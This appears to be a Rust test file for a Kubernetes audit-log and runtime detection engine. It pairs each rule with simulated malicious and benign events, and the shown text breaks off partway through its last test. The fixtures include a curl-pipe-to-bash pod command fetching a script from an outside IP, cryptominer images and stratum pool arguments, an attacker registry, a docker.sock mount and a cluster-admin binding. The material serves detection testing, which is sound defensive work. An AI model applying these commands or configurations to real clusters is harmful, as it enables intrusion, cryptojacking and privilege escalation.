//! Every built-in rule against a positive and a negative case built from realistic audit events
//! (stage ResponseComplete, userInfo, sourceIPs, objectRef, request/response bodies as
//! kube-apiserver logs them), plus the rule-file linter.

#![allow(clippy::unwrap_used, clippy::panic)]

use palisade_detect::audit::parse_event;
use palisade_detect::engine::{Engine, EngineConfig};
use palisade_detect::event::{Entity, Event, FileInfo, NetworkInfo, ProcessInfo, SensorEvent, SensorKind, Stage};
use palisade_detect::rules::{validate, DiagLevel, RuleSet, Source};
use palisade_detect::simulate::{
    binding, container, cronjob, pod, pod_spec, role, service, workload, EventBuilder as B,
};
use serde_json::{json, Value};
use std::collections::BTreeSet;

const T0: i64 = 1_717_236_000_000_000;

fn rules() -> RuleSet {
    RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"))
}

fn fired(rs: &RuleSet, events: &[String]) -> BTreeSet<String> {
    let mut eng = Engine::new(rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut out = Vec::new();
    for e in events {
        let ev = parse_event(e).unwrap_or_else(|err| panic!("{err}: {e}"));
        eng.process(&Event::Audit(ev), &mut out);
    }
    assert_eq!(eng.stats().cel_errors, 0, "CEL errors on {events:?}");
    out.into_iter().map(|a| a.rule.id).collect()
}

/// A human user from outside the cluster.
fn user(verb: &str, res: &str) -> B {
    B::new(verb, res).user("mallory@corp.example", &["developers"]).ip("203.0.113.50").at(T0)
}

/// A workload's service account, in the cluster.
fn app(verb: &str, res: &str) -> B {
    B::new(verb, res).sa("shop", "web").ip("10.244.1.5").ua("web/v1 client-go/v0.30.2").at(T0)
}

/// A kube-controller-manager controller.
fn ctl(verb: &str, res: &str, sa: &str) -> B {
    B::new(verb, res)
        .sa("kube-system", sa)
        .ip("10.0.0.10")
        .ua(&format!(
            "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{sa}"
        ))
        .at(T0)
}

fn kubelet(verb: &str, res: &str) -> B {
    B::new(verb, res).node("node-1").ip("10.0.0.11").ua("kubelet/v1.30.2 (linux/amd64) kubernetes/3968350").at(T0)
}

fn plain_pod(ns: &str, name: &str, image: &str) -> Value {
    pod(ns, name, json!({"app": name}), pod_spec(vec![container(name, image)], "default"))
}

fn pod_with(ns: &str, name: &str, f: impl FnOnce(&mut Value)) -> Value {
    let mut p = plain_pod(ns, name, "docker.io/library/nginx:1.27");
    f(&mut p);
    p
}

fn create_pod(b: B, p: Value) -> String {
    let ns = p["metadata"]["namespace"].as_str().unwrap_or("").to_string();
    let name = p["metadata"]["name"].as_str().unwrap_or("").to_string();
    b.ns(&ns).name(&name).req(p.clone()).resp(p).build()
}

struct Case {
    id: &'static str,
    pos: Vec<String>,
    neg: Vec<String>,
}

fn many(n: usize, f: impl Fn(usize) -> String) -> Vec<String> {
    (0..n).map(f).collect()
}

fn cases() -> Vec<Case> {
    let privileged = |p: &mut Value| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": true});
    vec![
        Case {
            id: "PAL-KA-001",
            pos: vec![user("create", "pods").ns("prod").name("api-0").sub("exec").query("command=sh&container=api&stdin=true&tty=true").code(101).build()],
            neg: vec![
                user("create", "pods").ns("prod").name("api-0").sub("exec").code(403).build(),
                ctl("create", "pods", "ttl-controller").ns("prod").name("api-0").sub("exec").code(101).build(),
                user("get", "pods").ns("prod").name("api-0").sub("log").build(),
            ],
        },
        Case {
            id: "PAL-KA-002",
            pos: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(101).build()],
            neg: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(403).build()],
        },
        Case {
            id: "PAL-KA-003",
            pos: vec![user("patch", "pods")
                .ns("prod")
                .name("api-0")
                .sub("ephemeralcontainers")
                .req(pod_with("prod", "api-0", |p| p["spec"]["ephemeralContainers"] = json!([{"name": "debugger", "image": "busybox:1.36", "targetContainerName": "api"}])))
                .build()],
            neg: vec![user("patch", "pods").ns("prod").name("api-0").sub("ephemeralcontainers").code(403).build()],
        },
        Case {
            id: "PAL-KA-004",
            pos: vec![user("create", "nodes").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/run/prod/api-0/api?cmd=id").build()],
            neg: vec![
                B::new("get", "nodes").sa("monitoring", "prometheus").ip("10.244.3.17").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/metrics").at(T0).build(),
                user("get", "nodes").name("node-2").sub("status").build(),
            ],
        },
        Case {
            id: "PAL-KA-005",
            pos: vec![create_pod(user("create", "pods"), plain_pod("prod", "worker", "xmrig/xmrig:latest"))],
            neg: vec![
                create_pod(user("create", "pods"), plain_pod("prod", "worker", "ghcr.io/corp/worker:1.0")),
                create_pod(ctl("create", "pods", "replicaset-controller"), plain_pod("prod", "worker-abcde", "xmrig/xmrig:latest")),
            ],
        },
        Case {
            id: "PAL-KA-006",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])),
            )],
            neg: vec![create_pod(user("create", "pods"), pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["--port", "3333"])))],
        },
        Case {
            id: "PAL-KA-007",
            pos: vec![user("create", "deployments")
                .ns("prod")
                .name("tools")
                .req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "registry.attacker.example:5000/tools:1")], "default")))
                .build()],
            neg: vec![
                user("create", "deployments")
                    .ns("prod")
                    .name("tools")
                    .req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "corp.azurecr.io/tools:1")], "default")))
                    .build(),
                user("create", "deployments").ns("prod").name("tools").req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "nginx")], "default"))).build(),
            ],
        },
        Case {
            id: "PAL-KA-008",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "job", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | bash"])),
            )],
            neg: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "job", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -fsSL http://backend/health > /tmp/ok"])),
            )],
        },
        Case {
            id: "PAL-KA-010",
            pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", privileged))],
            neg: vec![
                create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": false}))),
                create_pod(ctl("create", "pods", "daemon-set-controller"), pod_with("kube-system", "kube-proxy-x", privileged)),
            ],
        },
        Case {
            id: "PAL-KA-011",
            pos: vec![user("create", "daemonsets")
                .ns("prod")
                .name("agent")
                .req(workload("DaemonSet", "prod", "agent", {
                    let mut s = pod_spec(vec![container("agent", "nginx")], "default");
                    s["volumes"] = json!([{"name": "sock", "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}}]);
                    s
                }))
                .build()],
            neg: vec![user("create", "daemonsets")
                .ns("prod")
                .name("agent")
                .req(workload("DaemonSet", "prod", "agent", {
                    let mut s = pod_spec(vec![container("agent", "nginx")], "default");
                    s["volumes"] = json!([{"name": "data", "hostPath": {"path": "/mnt/data/agent"}}, {"name": "cfg", "configMap": {"name": "agent"}}]);
                    s
                }))
                .build()],
        },
        Case {
            id: "PAL-KA-012",
            pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(true)))],
            neg: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(false)))],
        },
        Case {
            id: "PAL-KA-013",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["SYS_ADMIN"]}})),
            )],
            neg: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}})),
            )],
        },
        Case {
            id: "PAL-KA-014",
            pos: vec![user("create", "deployments").ns("kube-system").name("metrics-helper").req(workload("Deployment", "kube-system", "metrics-helper", pod_spec(vec![container("m", "nginx")], "default"))).build()],
            neg: vec![
                ctl("create", "replicasets", "deployment-controller").ns("kube-system").name("coredns-5dd5756b68").build(),
                user("create", "deployments").ns("prod").name("metrics-helper").build(),
                user("create", "deployments").ns("kube-system").name("metrics-helper").code(403).build(),
            ],
        },
        Case {
            id: "PAL-KA-015",
            pos: vec![user("create", "cronjobs").ns("prod").name("backup").req(cronjob("prod", "backup", "0 3 * * *", pod_spec(vec![container("b", "alpine")], "default"))).build()],
            neg: vec![
                ctl("update", "cronjobs", "cronjob-controller").ns("prod").name("backup").sub("status").build(),
                ctl("update", "cronjobs", "cronjob-controller").ns("prod").name("backup").build(),
            ],
        },
        Case {
            id: "PAL-KA-016",
            pos: vec![user("create", "daemonsets").ns("prod").name("agent").req(workload("DaemonSet", "prod", "agent", pod_spec(vec![container("a", "nginx")], "default"))).build()],
            neg: vec![ctl("update", "daemonsets", "daemon-set-controller").ns("kube-system").name("kube-proxy").sub("status").build()],
        },
        Case {
            id: "PAL-KA-017",
            pos: vec![ctl("create", "pods", "replicaset-controller")
                .ns("prod")
                .name("api-6d4-x")
                .req(plain_pod("prod", "api-6d4-x", "ghcr.io/corp/api:1"))
                .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"x","webhook":"x.example.com","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"s","image":"x"}}],"patchType":"JSONPatch"}"#)
                .build()],
            neg: vec![
                ctl("create", "pods", "replicaset-controller")
                    .ns("prod")
                    .name("api-6d4-x")
                    .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"istio-sidecar-injector","webhook":"sidecar-injector.istio.io","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"istio-proxy"}}],"patchType":"JSONPatch"}"#)
                    .build(),
                ctl("create", "pods", "replicaset-controller")
                    .ns("prod")
                    .name("api-6d4-x")
                    .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"defaults","webhook":"defaults.example.com","patch":[{"op":"add","path":"/metadata/labels/team","value":"a"}],"patchType":"JSONPatch"}"#)
                    .build(),
            ],
        },
        Case {
            id: "PAL-KA-018",
            pos: vec![kubelet("create", "pods")
                .ns("kube-system")
                .name("backdoor-node-1")
                .req(pod_with("kube-system", "backdoor-node-1", |p| p["metadata"]["annotations"] = json!({"kubernetes.io/config.mirror": "abc", "kubernetes.io/config.source": "file"})))
                .build()],
            neg: vec![kubelet("create", "pods")
                .ns("kube-system")
                .name("kube-apiserver-node-1")
                .req(pod_with("kube-system", "kube-apiserver-node-1", |p| p["metadata"]["annotations"] = json!({"kubernetes.io/config.mirror": "abc", "kubernetes.io/config.source": "file"})))
                .build()],
        },
        Case {
            id: "PAL-KA-019",
            pos: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}})).build()],
            neg: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"restricted"}}})).build()],
        },
        Case {
            id: "PAL-KA-030",
            pos: vec![user("create", "clusterrolebindings")
                .name("mallory-admin")
                .req(binding("ClusterRoleBinding", "", "mallory-admin", "ClusterRole", "cluster-admin", json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory@corp.example"}])))
                .build()],
            neg: vec![user("create", "rolebindings")
                .ns("prod")
                .name("dev-view")
                .req(binding("RoleBinding", "prod", "dev-view", "ClusterRole", "view", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"developers"}])))
                .build()],
        },
        Case {
            id: "PAL-KA-031",
            pos: vec![user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":[""],"resources":["*"],"verbs":["get"]}]))).build()],
            neg: vec![
                user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":["apps"],"resources":["deployments"],"verbs":["get","list"]}]))).build(),
                ctl("update", "clusterroles", "clusterrole-aggregation-controller").name("admin").req(role("ClusterRole", "", "admin", json!([{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]))).build(),
            ],
        },
        Case {
            id: "PAL-KA-032",
            pos: vec![user("create", "roles").ns("prod").name("debug").req(role("Role", "prod", "debug", json!([{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]))).build()],
            neg: vec![user("create", "roles").ns("prod").name("logs").req(role("Role", "prod", "logs", json!([{"apiGroups":[""],"resources":["pods/log","pods"],"verbs":["get"]}]))).build()],
        },
        Case {
            id: "PAL-KA-033",
            pos: vec![user("create", "clusterroles").name("imp").req(role("ClusterRole", "", "imp", json!([{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]))).build()],
            neg: vec![user("create", "clusterroles").name("read").req(role("ClusterRole", "", "read", json!([{"apiGroups":[""],"resources":["users"],"verbs":["get"]}]))).build()],
        },
        Case {
            id: "PAL-KA-034",
            pos: vec![user("create", "clusterrolebindings")
                .name("anon")
                .req(binding("ClusterRoleBinding", "", "anon", "ClusterRole", "view", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}])))
                .build()],
            neg: vec![user("update", "clusterrolebindings")
                .name("system:public-info-viewer")
                .req(binding("ClusterRoleBinding", "", "system:public-info-viewer", "ClusterRole", "system:public-info-viewer", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}])))
                .build()],
        },
        Case {
            id: "PAL-KA-035",
            pos: vec![B::new("list", "secrets").anonymous().ns("kube-system").ip("198.51.100.3").ua("curl/8.5.0").at(T0).build()],
            neg: vec![
                B::new("get", "").anonymous().uri("/readyz").ip("10.0.0.2").ua("kube-probe/1.30").at(T0).build(),
                B::new("get", "").anonymous().uri("/version?timeout=32s").ip("10.0.0.2").at(T0).build(),
                B::new("list", "secrets").anonymous().ns("kube-system").ip("198.51.100.3").code(403).at(T0).build(),
            ],
        },
        Case {
            id: "PAL-KA-036",
            pos: vec![user("create", "serviceaccounts").ns("kube-system").name("deployment-controller").sub("token").build()],
            neg: vec![kubelet("create", "serviceaccounts").ns("prod").name("api").sub("token").build()],
        },
        Case {
            id: "PAL-KA-037",
            pos: vec![user("create", "secrets")
                .ns("prod")
                .name("ci-token")
                .req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"ci-token","annotations":{"kubernetes.io/service-account.name":"ci"}},"type":"kubernetes.io/service-account-token"}))
                .build()],
            neg: vec![user("create", "secrets").ns("prod").name("tls").req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"tls"},"type":"kubernetes.io/tls"})).build()],
        },
        Case {
            id: "PAL-KA-038",
            pos: vec![user("update", "certificatesigningrequests").name("csr-abc").sub("approval").build()],
            neg: vec![ctl("update", "certificatesigningrequests", "certificate-controller").name("csr-abc").sub("approval").build()],
        },
        Case {
            id: "PAL-KA-039",
            pos: vec![user("create", "certificatesigningrequests").name("csr-x").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-x"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}})).build()],
            neg: vec![kubelet("create", "certificatesigningrequests").name("csr-y").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-y"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client-kubelet"}})).build()],
        },
        Case {
            id: "PAL-KA-040",
            pos: vec![B::new("list", "pods").sa("shop", "web").ip("198.51.100.23").at(T0).build()],
            neg: vec![
                app("list", "pods").build(),
                B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build(),
                B::new("list", "pods").sa("shop", "web").ip("fd00::12").at(T0).build(),
            ],
        },
        Case {
            id: "PAL-KA-041",
            pos: many(10, |i| app("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 2_000_000).build()),
            neg: [
                many(10, |i| app("get", "secrets").ns("shop").name("web-db").at(T0 + i as i64 * 2_000_000).build()),
                many(10, |i| app("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 30_000_000).build()),
                many(10, |i| kubelet("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 1_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-042",
            pos: vec![user("list", "secrets").build()],
            neg: vec![user("list", "secrets").ns("prod").build(), ctl("list", "secrets", "namespace-controller").build()],
        },
        Case {
            id: "PAL-KA-043",
            pos: vec![user("get", "secrets").ns("kube-system").name("x").impersonate("kubernetes-admin", &["system:masters"]).build()],
            neg: vec![user("get", "pods").ns("prod").impersonate("bob@corp.example", &["developers"]).build()],
        },
        Case {
            id: "PAL-KA-044",
            pos: vec![app("create", "selfsubjectrulesreviews").req(json!({"kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}})).build()],
            neg: vec![user("create", "selfsubjectaccessreviews").req(json!({"kind":"SelfSubjectAccessReview","spec":{}})).build()],
        },
        Case {
            id: "PAL-KA-045",
            pos: many(20, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
            neg: [
                many(19, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
                many(20, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(404).at(T0 + 100_000_000 + i as i64 * 1_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-046",
            pos: vec![user("create", "serviceaccounts").ns("kube-system").name("helper").build()],
            neg: vec![user("create", "serviceaccounts").ns("prod").name("helper").build(), ctl("create", "serviceaccounts", "serviceaccount-controller").ns("kube-system").name("default").build()],
        },
        Case {
            id: "PAL-KA-050",
            pos: vec![user("create", "mutatingwebhookconfigurations").name("evil").build()],
            neg: vec![user("list", "mutatingwebhookconfigurations").build()],
        },
        Case {
            id: "PAL-KA-051",
            pos: vec![user("delete", "validatingwebhookconfigurations").name("gatekeeper").build()],
            neg: vec![user("get", "validatingwebhookconfigurations").name("gatekeeper").build()],
        },
        Case {
            id: "PAL-KA-052",
            pos: vec![user("update", "configmaps").ns("kube-system").name("coredns").req(json!({"kind":"ConfigMap","data":{"Corefile":".:53 { forward . 198.51.100.1 }"}})).build()],
            neg: vec![user("update", "configmaps").ns("prod").name("coredns").build(), user("get", "configmaps").ns("kube-system").name("coredns").build()],
        },
        Case {
            id: "PAL-KA-053",
            pos: vec![user("deletecollection", "events").ns("prod").build()],
            neg: vec![kubelet("create", "events").ns("prod").name("x.1").build(), user("list", "events").ns("prod").build()],
        },
        Case {
            id: "PAL-KA-054",
            pos: vec![user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "LoadBalancer", json!({"app": "ml-pipeline-ui"}), 80)).build()],
            neg: vec![
                user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "ClusterIP", json!({"app": "ml-pipeline-ui"}), 80)).build(),
                user("create", "services").ns("shop").name("web").req(service("shop", "web", "LoadBalancer", json!({"app": "web"}), 443)).build(),
            ],
        },
        Case {
            id: "PAL-KA-055",
            pos: vec![user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({"app": "web"}), 80)).build()],
            neg: vec![user("create", "services").ns("shop").name("web").req(service("shop", "web", "ClusterIP", json!({"app": "web"}), 80)).build()],
        },
        Case {
            id: "PAL-KA-056",
            pos: many(20, |i| user("delete", "deployments").ns("prod").name(&format!("d{i}")).at(T0 + i as i64 * 1_000_000).build()),
            neg: [
                many(20, |i| ctl("delete", "pods", "namespace-controller").ns("old").name(&format!("p{i}")).at(T0 + i as i64 * 100_000).build()),
                many(20, |i| user("delete", "pods").ns("prod").name(&format!("p{i}")).at(T0 + i as i64 * 10_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-057",
            pos: vec![user("list", "pods").ua("kubectl-who-can/v0.4.0").build()],
            neg: vec![user("list", "pods").ua("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350").build()],
        },
        Case {
            id: "PAL-KA-058",
            pos: vec![user("delete", "daemonsets").ns("falco").name("falco").build()],
            neg: vec![user("delete", "daemonsets").ns("prod").name("fluent-bit").build(), user("patch", "daemonsets").ns("falco").name("falco").req(json!({"spec":{"template":{"metadata":{"labels":{"v":"2"}}}}})).build()],
        },
        Case {
            id: "PAL-KA-059",
            pos: vec![user("delete", "namespaces").name("prod").build()],
            neg: vec![ctl("delete", "namespaces", "namespace-controller").name("prod").build()],
        },
        Case {
            id: "PAL-KA-060",
            pos: vec![user("delete", "nodes").name("node-3").build()],
            neg: vec![ctl("delete", "nodes", "node-controller").name("node-3").build()],
        },
    ]
}

#[test]
fn every_audit_rule_has_a_positive_and_a_negative_case() {
    let rs = rules();
    let cs = cases();
    let ids: BTreeSet<&str> = cs.iter().map(|c| c.id).collect();
    for r in rs.rules().iter().filter(|r| r.source == Source::K8sAudit) {
        assert!(ids.contains(r.id.as_str()), "no test case for {}", r.id);
    }
    for c in &cs {
        let pos = fired(&rs, &c.pos);
        assert!(pos.contains(c.id), "{}: positive case did not fire (fired {pos:?})", c.id);
        for e in &c.neg {
            let neg = fired(&rs, std::slice::from_ref(e));
            assert!(!neg.contains(c.id), "{}: negative case fired: {e}", c.id);
        }
        // stateful negatives: the whole sequence
        let neg = fired(&rs, &c.neg);
        assert!(!neg.contains(c.id), "{}: negative sequence fired", c.id);
    }
}

#[test]
fn non_final_stages_are_not_evaluated_by_default() {
    let rs = rules();
    let e = user("create", "pods").ns("prod").name("api-0").sub("exec").code(101).stage(Stage::RequestReceived).build();
    assert!(fired(&rs, &[e]).is_empty());
}

fn sensor(kind: SensorKind, exe: &str, args: &[&str]) -> SensorEvent {
    SensorEvent {
        kind,
        time_us: T0,
        node: "node-1".into(),
        entity: Entity {
            cluster: "c".into(),
            namespace: "prod".into(),
            pod: "api-0".into(),
            container: "api".into(),
            image: "ghcr.io/corp/api:1".into(),
            container_id: "0123456789ab".into(),
        },
        process: ProcessInfo {
            pid: 4242,
            ppid: 4200,
            exe: exe.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            parent_exe: "/usr/bin/containerd-shim".into(),
            uid: 0,
            ..Default::default()
        },
        file: None,
        network: None,
        syscall: None,
    }
}

#[test]
fn sensor_rules() {
    let rs = rules();
    let run = |ev: SensorEvent| -> BTreeSet<String> {
        let mut eng = Engine::new(&rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
        let mut out = Vec::new();
        eng.process(&Event::Sensor(ev), &mut out);
        assert_eq!(eng.stats().cel_errors, 0);
        out.into_iter().map(|a| a.rule.id).collect()
    };
    assert!(run(sensor(SensorKind::Process, "/bin/bash", &["bash"])).contains("PAL-SEN-001"));
    assert!(!run(sensor(SensorKind::Process, "/usr/bin/python3", &["python3", "app.py"])).contains("PAL-SEN-001"));
    assert!(run(sensor(SensorKind::Process, "/tmp/.x/xmrig", &["xmrig"])).contains("PAL-SEN-002"));
    assert!(run(sensor(SensorKind::Process, "/tmp/kworker", &["kworker", "-o", "stratum+tcp://p:3333"]))
        .contains("PAL-SEN-002"));
    assert!(!run(sensor(SensorKind::Process, "/usr/bin/nginx", &["nginx"])).contains("PAL-SEN-002"));
    let mut w = sensor(SensorKind::File, "/bin/sh", &["sh"]);
    w.file = Some(FileInfo {
        path: "/host/etc/kubernetes/manifests/x.yaml".into(),
        op: "write".into(),
        ..Default::default()
    });
    assert!(run(w.clone()).contains("PAL-SEN-003"));
    w.file = Some(FileInfo { path: "/tmp/x".into(), op: "write".into(), ..Default::default() });
    assert!(!run(w).contains("PAL-SEN-003"));
    let mut n = sensor(SensorKind::Network, "/tmp/kworker", &["kworker"]);
    n.network = Some(NetworkInfo {
        direction: "connect".into(),
        protocol: "tcp".into(),
        src_ip: "10.244.1.5".into(),
        src_port: 40000,
        dst_ip: "198.51.100.9".into(),
        dst_port: 3333,
        ..Default::default()
    });
    assert!(run(n.clone()).contains("PAL-SEN-004"));
    if let Some(net) = n.network.as_mut() {
        net.dst_port = 443;
    }
    assert!(!run(n).contains("PAL-SEN-004"));
}

#[test]
fn users_can_add_override_and_disable_rules_and_extend_lists() {
    let mut rs = rules();
    let user_file = r#"
lists:
  trusted_registries:
    items: ["registry.attacker.example:5000"]
    append: true
rules:
  - id: PAL-KA-001
    name: Exec into production pods
    description: Only production namespaces.
    severity: high
    attack: {tactics: [TA0002], techniques: [T1609]}
    match: {verbs: [create], resources: [pods/exec], success: true}
    condition: ka.target.namespace.startsWith("prod")
    output: "%ka.user.name exec'd into %ka.target.name"
    remediation: [Ask them.]
  - id: CORP-001
    name: ConfigMap read by a stranger
    description: A user outside the team read the payments settings.
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: [configmaps], namespaces: [payments]}
    condition: '!("payments" in ka.user.groups)'
    exceptions:
      - name: auditors
        fields: [ka.user.name]
        values: [auditor@corp.example]
    output: "%ka.user.name read %ka.target.name"
    remediation: [Check why.]
disable: [PAL-KA-055]
"#;
    let diags = rs.add_file(user_file, "corp.yaml").unwrap_or_else(|e| panic!("{e}"));
    assert!(diags.iter().any(|d| d.level == DiagLevel::Note && d.message.contains("overrides")), "{diags:?}");
    let fires = |rs: &RuleSet, e: String| fired(rs, &[e]);
    // override: exec outside prod no longer alerts, and severity is high
    assert!(
        !fires(&rs, user("create", "pods").ns("dev").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
    );
    assert!(
        fires(&rs, user("create", "pods").ns("prod-eu").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
    );
    assert_eq!(rs.get("PAL-KA-001").map(|r| r.severity.as_str()), Some("high"));
    // new rule with an exception
    assert!(fires(&rs, user("get", "configmaps").ns("payments").name("settings").build()).contains("CORP-001"));
    assert!(!fires(
        &rs,
        B::new("get", "configmaps").user("auditor@corp.example", &[]).ns("payments").name("settings").at(T0).build()
    )
    .contains("CORP-001"));
    assert!(!fires(
        &rs,
        B::new("get", "configmaps")
            .user("pat@corp.example", &["payments"])
            .ns("payments")
            .name("settings")
            .at(T0)
            .build()
    )
    .contains("CORP-001"));
    // disabled
    assert!(!fires(
        &rs,
        user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({}), 80)).build()
    )
    .contains("PAL-KA-055"));
    // extended list: the registry is trusted now
    let tools = user("create", "deployments")
        .ns("prod")
        .name("tools")
        .req(workload(
            "Deployment",
            "prod",
            "tools",
            pod_spec(vec![container("tools", "registry.attacker.example:5000/tools:1")], "default"),
        ))
        .build();
    assert!(!fires(&rs, tools).contains("PAL-KA-007"));
    // configuration can replace a list too
    rs.set_list("cluster_cidrs", vec!["10.0.0.0/8".into()]);
    assert!(fires(&rs, B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build()).contains("PAL-KA-040"));
}

#[test]
fn linter_reports_problems_with_line_numbers() {
    let bad = r#"rules:
  - id: X-1
    name: Bad rule
    description: Many problems.
    severity: severe
    attack: {tactics: [TA0002], techniques: [T9999, T1611]}
    match: {verbs: [create], resources: [pods], subresouces: [exec]}
    condition: ka.verb == "create" &&
    output: "%ka.user.nme did it"
    remediation: [Fix it.]
    colour: blue
  - id: X-2
    name: Unknown identifier
    description: d
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: [pods]}
    condition: |
      ka.verb == "get" &&
        ka.user.nam == "x" && undefined_list.size() > 0
    output: ok
    remediation: [x]
  - id: X-2
    name: Duplicate
    description: d
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: ["@no_such_list"]}
    condition: "true"
    output: ok
    remediation: [x]
  - id: X-3
    name: Missing fields
"#;
    let d = validate(bad, "bad.yaml");
    let find = |needle: &str| {
        d.iter().find(|x| x.message.contains(needle)).unwrap_or_else(|| panic!("no {needle:?} in {d:#?}"))
    };
    assert_eq!(find("unknown severity").line, 5);
    let t = find("T9999");
    assert_eq!((t.line, t.column), (6, 46));
    assert_eq!(find("T1611").line, 6, "technique not under the rule's tactics");
    let s = find("subresouces");
    assert_eq!(s.line, 7);
    assert!(s.message.contains("did you mean `subresources`"), "{}", s.message);
    let c = find("CEL syntax error");
    assert_eq!(c.line, 8, "{c:?}");
    assert!(c.column > 16, "{c:?}");
    assert_eq!(find("ka.user.nme").line, 9);
    assert_eq!(find("colour").line, 11);
    let n = find("`ka.user.nam`");
    assert_eq!((n.line, n.column), (20, 9), "{n:?}");
    assert_eq!(find("undefined_list").line, 20);
    assert_eq!(find("duplicate rule id").line, 23);
    assert!(find("missing required field").message.contains("description"));
    assert!(d.iter().all(|x| x.line > 0 && x.column > 0), "{d:#?}");
    // a clean file has no errors; YAML syntax errors have positions too
    assert!(!validate("rules: []\n", "ok.yaml").iter().any(|x| x.level == DiagLevel::Error));
    let y = validate("rules:\n  - id: [unclosed\n", "y.yaml");
    assert!(y[0].message.contains("YAML syntax"), "{y:?}");
    assert!(y[0].line >= 2);
    // the built-in files lint clean
    for (name, text) in palisade_detect::rules::BUILTIN_FILES {
        let d: Vec<_> =
            RuleSet::empty().validate_file(text, name).into_iter().filter(|x| x.level == DiagLevel::Error).collect();
        let _ = d; // built-ins depend on each other's lists: checked through RuleSet::builtin()
    }
    let _ = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn first_seen_rules_learn_then_alert_on_new_keys() {
    let mut rs = rules();
    rs.add_file(
        r#"
rules:
  - id: CORP-010
    name: New client address for a service account
    description: A service account used from an address not seen during learning.
    severity: low
